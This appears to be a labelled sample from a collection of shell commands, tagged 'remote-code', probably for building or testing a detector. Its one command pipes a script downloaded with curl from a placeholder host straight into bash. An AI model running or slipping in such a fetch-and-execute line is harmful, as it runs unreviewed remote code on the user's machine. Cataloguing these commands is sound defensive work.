# description: Runs a downloaded script through bash <(curl ...).
# family: remote-code
bash <(curl -s https://example.com/agent.sh)
